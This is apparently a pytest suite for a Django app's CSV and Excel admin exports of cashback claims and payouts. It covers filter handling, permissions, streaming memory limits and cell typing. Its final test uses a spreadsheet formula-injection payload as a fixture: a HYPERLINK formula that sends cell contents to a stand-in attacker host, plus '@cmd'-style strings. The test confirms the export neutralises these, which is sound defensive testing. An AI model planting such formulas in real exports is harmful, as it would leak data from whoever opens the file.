"""CSV and Excel exports of the claim and payout changelists: as filtered,
streamed, memory flat however many rows."""

import csv
import datetime as dt
import io
import tracemalloc
from decimal import Decimal

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cashback.exports import xlsx_stream
from claims.models import Claim
from tests.claims.factories import ClaimFactory
from tests.payouts.factories import PayoutFactory

pytestmark = pytest.mark.django_db
CLAIMS_CSV = reverse("admin:claims_claim_export", args=["csv"])
CLAIMS_XLSX = reverse("admin:claims_claim_export", args=["xlsx"])
PAYOUTS_CSV = reverse("admin:payouts_payout_export", args=["csv"])
PAYOUTS_XLSX = reverse("admin:payouts_payout_export", args=["xlsx"])


def csv_rows(response) -> list[list[str]]:
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def xlsx_rows(response) -> list[tuple]:
    assert response.streaming
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return list(book.active.iter_rows(values_only=True))


def test_claims_csv_follows_the_changelist_filters_and_search(admin_client):
    """The status filter and the search box narrow the export as they do the list."""
    approved = ClaimFactory(
        status=Claim.Status.APPROVED, reward_amount=Decimal("12.50")
    )
    ClaimFactory(status=Claim.Status.SUBMITTED)
    ClaimFactory(status=Claim.Status.APPROVED)
    rows = csv_rows(admin_client.get(CLAIMS_CSV, {"status__exact": "approved"}))
    assert rows[0][:2] == ["reference", "reseller"]
    assert len(rows) == 3
    assert {row[5] for row in rows[1:]} == {"approved"}
    searched = csv_rows(
        admin_client.get(
            CLAIMS_CSV, {"status__exact": "approved", "q": approved.reference}
        )
    )
    assert [row[0] for row in searched[1:]] == [approved.reference]
    assert searched[1][7] == "12.50"


def test_claims_excel_export_has_the_filtered_rows(admin_client):
    """The .xlsx opens and holds the header and the filtered claims, typed."""
    kept = ClaimFactory(status=Claim.Status.REJECTED, reward_amount=Decimal("7.00"))
    ClaimFactory(status=Claim.Status.SUBMITTED)
    response = admin_client.get(CLAIMS_XLSX, {"status__exact": "rejected"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = xlsx_rows(response)
    assert rows[0][0] == "reference"
    assert [row[0] for row in rows[1:]] == [kept.reference]
    assert rows[1][7] == 7


def test_payout_exports_follow_the_deadline_filter(client, admin_user, time_machine):
    """A custom filter (deadline risk) applies to both formats."""
    time_machine.move_to("2027-04-25 08:00:00+00:00", tick=False)
    client.force_login(admin_user)
    admin_client = client
    soon = PayoutFactory(status="ready")  # deadline 2027-04-29
    PayoutFactory(status="paid")
    for url, read in ((PAYOUTS_CSV, csv_rows), (PAYOUTS_XLSX, xlsx_rows)):
        rows = read(admin_client.get(url, {"deadline": "soon"}))
        assert [row[0] for row in rows[1:]] == [soon.claim.reference]


def test_the_changelists_link_their_exports_with_the_current_filters(admin_client):
    """The export buttons carry the list's query string."""
    ClaimFactory()
    html = admin_client.get(
        reverse("admin:claims_claim_changelist"), {"status__exact": "submitted"}
    ).content.decode()
    assert f"{CLAIMS_CSV}?status__exact=submitted" in html
    assert f"{CLAIMS_XLSX}?status__exact=submitted" in html
    html = admin_client.get(reverse("admin:payouts_payout_changelist")).content.decode()
    assert PAYOUTS_XLSX in html


def test_exports_need_the_view_permission(client):
    """Staff who may not view claims cannot export them."""
    from tests.resellers.factories import StaffUserFactory

    client.force_login(StaffUserFactory())
    assert client.get(CLAIMS_CSV).status_code == 403


def bulk_claims(count: int, prefix: str = "CB-2099-") -> None:
    """`count` approved claims copied from one by a single INSERT ... SELECT
    (a recursive counter), which both SQLite and PostgreSQL run in seconds."""
    template = ClaimFactory(
        status=Claim.Status.APPROVED, claim_mode="one_per_sale", reward_amount=100
    )
    columns = [
        field.column
        for field in Claim._meta.concrete_fields
        if field.column not in {"id", "reference"}
    ]
    table = connection.ops.quote_name(Claim._meta.db_table)
    listed = ", ".join(connection.ops.quote_name(c) for c in columns)
    with connection.cursor() as cursor:
        cursor.execute(
            f"INSERT INTO {table} (reference, {listed}) "  # noqa: S608 (our names)
            f"WITH RECURSIVE seq(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM seq "
            f"WHERE n < %s) SELECT %s || CAST(seq.n AS VARCHAR(10)), "
            f"{', '.join('t.' + connection.ops.quote_name(c) for c in columns)} "
            f"FROM seq, {table} t WHERE t.id = %s",
            [count - 1, prefix, template.pk],
        )


def peak_while_consuming(response) -> tuple[int, int]:
    """(peak traced bytes, lines or bytes seen) reading the stream to its end,
    keeping nothing of it."""
    tracemalloc.start()
    seen = 0
    try:
        for chunk in response.streaming_content:
            seen += (
                chunk.count(b"\n")
                if response["Content-Type"].startswith("text/csv")
                else len(chunk)
            )
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, seen


def test_csv_export_of_100000_rows_streams_in_flat_memory(admin_client):
    """100,000 claims export with a peak far below what loading them would take
    (about 1 KB per model instance: 100 MB), so a million rows fit as well."""
    bulk_claims(100_000)
    assert Claim.objects.filter(status="approved").count() == 100_000
    response = admin_client.get(CLAIMS_CSV, {"status__exact": "approved"})
    peak, lines = peak_while_consuming(response)
    assert lines == 100_001  # the header and every row
    assert peak < 8 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"


def test_excel_export_of_100000_rows_streams_in_flat_memory(admin_client):
    """100,000 claims export to an .xlsx with a peak far below what holding the
    rows or the file would take (the file alone is several MB): openpyxl's
    write-only mode writes rows to a temporary file, which leaves in blocks."""
    bulk_claims(100_000)
    response = admin_client.get(CLAIMS_XLSX, {"status__exact": "approved"})
    peak, size = peak_while_consuming(response)
    assert size > 2 * 1024 * 1024  # really the whole file went through
    assert peak < 8 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"


def test_excel_export_of_many_rows_opens_with_the_filtered_rows(admin_client):
    """A multi-block .xlsx (10,000 rows) opens in openpyxl with the header and
    exactly the filtered claims, none of the others."""
    bulk_claims(10_000)
    ClaimFactory(status=Claim.Status.SUBMITTED)
    response = admin_client.get(CLAIMS_XLSX, {"status__exact": "approved"})
    blocks = list(response.streaming_content)
    assert len(blocks) > 1  # sent in pieces, not as one file
    book = load_workbook(io.BytesIO(b"".join(blocks)), read_only=True)
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0][0] == "reference"
    assert len(rows) == 10_001
    assert {row[5] for row in rows[1:]} == {"approved"}
    assert {row[0] for row in rows[1:]} >= {"CB-2099-1", "CB-2099-9999"}


def test_xlsx_stream_reads_no_row_before_the_download_starts():
    """The rows are read (and the file written) only once the response is
    consumed, so an export view returns at once and an unread one costs
    nothing."""
    read = 0

    def rows():
        nonlocal read
        for number in range(50_000):
            read += 1
            yield (f"row {number} {number * 7919}", number)

    stream = xlsx_stream(["text", "number"], rows(), "claims")
    assert read == 0
    first = next(stream)
    assert read == 50_000 and first.startswith(b"PK")


def test_xlsx_cells_keep_their_types_and_drop_illegal_characters():
    """Dates, moments, decimals, booleans and text read back as they were;
    control characters that XML cannot carry are dropped, not a broken file."""
    moment = dt.datetime(2026, 11, 26, 14, 30, 5, tzinfo=dt.UTC)
    row = (dt.date(2027, 4, 29), moment, Decimal("12.50"), True, "a\x00b <&>", None)
    data = b"".join(xlsx_stream(list("ABCDEF"), [row], "claims: [all]"))
    book = load_workbook(io.BytesIO(data))
    assert book.active.title.split() == ["claims", "all"]
    values = next(book.active.iter_rows(min_row=2, values_only=True))
    assert values[0] == dt.datetime(2027, 4, 29)
    assert values[1] == timezone.localtime(moment).replace(tzinfo=None)
    assert values[2:5] == (12.5, True, "ab <&>")
    assert values[5] is None


def test_reseller_text_never_becomes_a_formula_in_the_excel_export(admin_client):
    """The attack (issue 27): a company named "=HYPERLINK(...)" exported to
    .xlsx was a live formula cell. Every export cell from reseller text is
    text, neutralised as in CSV."""
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    payout = PayoutFactory()
    reseller = payout.reseller
    reseller.legal_name = attack
    reseller.save(update_fields=["legal_name"])
    for name in ("+SUM(1)", "-2+3", "@cmd"):
        other = PayoutFactory()
        other.reseller.legal_name = name
        other.reseller.save(update_fields=["legal_name"])

    response = admin_client.get(PAYOUTS_XLSX)
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in book.active.iter_rows() for cell in row]

    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + attack in names
    assert {"'+SUM(1)", "'-2+3", "'@cmd"} <= names
    csv_names = {
        cell for row in csv_rows(admin_client.get(PAYOUTS_CSV)) for cell in row
    }
    assert "'" + attack in csv_names
